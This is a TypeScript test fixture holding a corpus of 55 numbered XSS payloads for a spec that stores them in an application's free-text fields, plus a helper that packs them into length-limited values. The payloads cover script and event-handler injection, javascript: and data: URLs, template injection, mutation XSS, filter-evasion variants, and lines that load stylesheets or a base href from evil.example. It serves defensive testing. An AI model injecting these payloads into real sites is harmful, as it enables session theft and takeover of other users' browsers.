/**
 * The XSS corpus (issue 36): fixed payloads, each with a short label and a number, stored by
 * xss.spec.ts through every free-text field the API keeps and the UI shows. Every payload's
 * "execution" is observable: it calls `__xss(n)` (the spec defines it in the page and records the
 * call), `alert(n)` (a dialog, which the spec fails on), changes `document.title` (checked), or
 * loads something from `evil.example` (a request the spec fails on, and a CSP violation on our
 * pages). Nothing here may ever run or be parsed: each must be shown exactly as written.
 *
 * Forms: script, event handler, SVG, javascript: and data: URLs, template injection, mutation XSS
 * (markup that changes meaning when parsed twice), CSS (`<style>`, `@import`, `style=`), `<meta>`,
 * `<base>`, forms, entity-encoded and mixed-case variants, broken-out quotes, and Unicode tricks
 * (RTL override, zero-width space, full-width brackets, homoglyphs). No payload has a line break,
 * leading or trailing white space or a NUL (PostgreSQL text refuses NUL), so each survives the
 * server's trim and stays one piece inside a field that holds several. Together, one a line, they
 * are at most COMMENT_MAX (2000) characters: a 2000-character field (a comment, a note, a
 * description, a line's text) holds the whole corpus at once.
 */
export type XssPayload = { id: number; label: string; text: string };

const RLO = '\u202E';
const PDF = '\u202C';
const ZWSP = '\u200B';

const CORPUS: readonly (readonly [string, string])[] = [
  ['<script>', '<script>__xss(%d)</script>'],
  ['<script src=data:>', '<script src=data:,__xss(%d)></script>'],
  ['<img onerror>', '<img src=x onerror=__xss(%d)>'],
  ['<img onerror> alert', '<img src=x onerror=alert(%d)>'],
  ['<svg onload>', '<svg onload=__xss(%d)>'],
  ['<svg><script>', '<svg><script>__xss(%d)</script>'],
  ['<svg><animate onbegin>', '<svg><animate onbegin=__xss(%d) dur=1s>'],
  ['<svg><a xlink:href=javascript:>', '<svg><a xlink:href=javascript:__xss(%d)>x</a>'],
  ['<iframe src=javascript:>', '<iframe src=javascript:__xss(%d)>'],
  ['<iframe srcdoc>', '<iframe srcdoc="<script>__xss(%d)</script>">'],
  ['<a href=javascript:>', '<a href="javascript:__xss(%d)">x</a>'],
  ['bare javascript: URL', 'javascript:__xss(%d)'],
  ['javascript: entity-encoded', '<a href=&#106;avascript:__xss(%d)>x'],
  ['<a href=data:text/html>', '<a href="data:text/html,<script>__xss(%d)</script>">x</a>'],
  ['<object data=javascript:>', '<object data=javascript:__xss(%d)>'],
  ['<form action=javascript:>', '<form action=javascript:__xss(%d)><button>x'],
  ['<button formaction=javascript:>', '<button formaction=javascript:__xss(%d)>x'],
  ['<input autofocus onfocus>', '<input autofocus onfocus=__xss(%d)>'],
  ['<details ontoggle>', '<details open ontoggle=__xss(%d)>'],
  ['<video><source onerror>', '<video><source onerror=__xss(%d)>'],
  ['mixed-case <script>', '<ScRiPt>__xss(%d)</sCrIpT>'],
  ['mixed-case <img onerror>', '<IMG SRC=x OnErRoR=__xss(%d)>'],
  ['<img/onerror> with slashes', '<img/src=x/onerror=__xss(%d)>'],
  ['double-quote breakout', '"><img src=x onerror=__xss(%d)>'],
  ['single-quote breakout', "'><svg onload=__xss(%d)>"],
  ['</script> breakout', '</script><script>__xss(%d)</script>'],
  ['<style>@import', "<style>@import'//evil.example/%d.css'</style>"],
  ['style= url(javascript:)', '<p style=background:url(javascript:__xss(%d))>'],
  ['<link rel=stylesheet>', '<link rel=stylesheet href=//evil.example/%d.css>'],
  ['<meta http-equiv=refresh>', '<meta http-equiv=refresh content=0;url=javascript:__xss(%d)>'],
  ['<base href>', '<base href=//evil.example/%d/>'],
  ['template: constructor.constructor', "{{constructor.constructor('__xss(%d)')()}}"],
  ['template: ${…}', '${__xss(%d)}'],
  ['template: <%= %>', '<%= __xss(%d) %>'],
  ['template: {{{…}}}', '{{{__xss(%d)}}}'],
  ['template: i18next $t(…) nesting', '$t(__xss(%d))'],
  ['template: #{…}', '#{__xss(%d)}'],
  ['mXSS: <noscript> title', '<noscript><p title="</noscript><img src=x onerror=__xss(%d)>">'],
  ['mXSS: <math><mglyph><style>', '<math><mtext><table><mglyph><style><img src=x onerror=__xss(%d)>'],
  ['mXSS: <svg></p><style>', '<svg></p><style><a id="</style><img src=1 onerror=__xss(%d)>">'],
  ['mXSS: <!--> comment', '<!--><img src=x onerror=__xss(%d)>-->'],
  ['mXSS: <svg> CDATA', '<svg><![CDATA[><img src=x onerror=__xss(%d)>]]>'],
  ['mXSS: <xmp>', '<xmp><img src=x onerror=__xss(%d)></xmp>'],
  ['mXSS: <template>', '<template><img src=x onerror=__xss(%d)>'],
  ['entity-encoded <img>', '&lt;img src=x onerror=__xss(%d)&gt;'],
  ['numeric entities <script>', '&#60;script&#62;__xss(%d)&#60;/script&#62;'],
  ['JS unicode escapes', '\\u003cscript\\u003e__xss(%d)\\u003c/script\\u003e'],
  ['full-width brackets', '＜script＞__xss(%d)＜/script＞'],
  ['RTL override', `${RLO}<img src=x onerror=__xss(%d)>${PDF}gpj.exe`],
  ['zero-width space in the tag', `<scr${ZWSP}ipt>__xss(%d)</scr${ZWSP}ipt>`],
  ['homoglyph (Cyrillic і)', '<іmg src=x onerror=__xss(%d)>'],
  ['emoji around <svg/onload>', '😀<svg/onload=__xss(%d)>😀'],
  ['document.title', '<img src=x onerror=document.title=%d>'],
  ['markdown javascript: link', '[x](javascript:__xss(%d))'],
  ['eval(src) onerror', '<img src=x:__xss(%d) onerror=eval(src)>'],
];

/** `%d` in a payload is its number. */
export const XSS_PAYLOADS: readonly XssPayload[] = CORPUS.map(([label, text], i) => ({ id: i + 1, label, text: text.replaceAll('%d', String(i + 1)) }));

/** A value to store in a field: payloads joined by a separator. */
export type Packed = { text: string; payloads: XssPayload[] };

/**
 * The payloads packed into few values of at most `max` characters, joined by `separator` (first fit,
 * the longest first; each value's payloads then in corpus order): each value fits the field, each
 * payload whole in one value. A payload longer than `max` cannot be stored in the field at all and is
 * left out (`skipped`).
 */
export function pack(payloads: readonly XssPayload[], max: number, separator: string): { values: Packed[]; skipped: XssPayload[] } {
  const bins: XssPayload[][] = [];
  const length = (bin: readonly XssPayload[]) => bin.reduce((n, p) => n + p.text.length, 0) + separator.length * Math.max(0, bin.length - 1);
  const fits = payloads.filter((p) => p.text.length <= max);
  for (const p of [...fits].sort((a, b) => b.text.length - a.text.length || a.id - b.id)) {
    const bin = bins.find((b) => length(b) + separator.length + p.text.length <= max);
    if (bin) bin.push(p);
    else bins.push([p]);
  }
  const values = bins.map((bin) => {
    const inOrder = [...bin].sort((a, b) => a.id - b.id);
    return { text: inOrder.map((p) => p.text).join(separator), payloads: inOrder };
  });
  return { values, skipped: payloads.filter((p) => p.text.length > max) };
}
